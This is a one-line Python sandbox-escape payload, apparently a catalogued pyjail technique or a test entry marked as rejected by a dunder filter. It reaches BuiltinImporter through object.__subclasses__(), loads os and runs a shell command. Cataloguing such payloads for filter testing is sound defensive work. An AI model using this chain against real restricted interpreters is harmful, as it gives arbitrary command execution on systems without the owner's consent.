# BuiltinImporter.load_module, the shortest chain of 2021 jails
[x for x in object.__subclasses__() if x.__name__ == 'BuiltinImporter'][0]().load_module('os').system('id') # reject: dunder
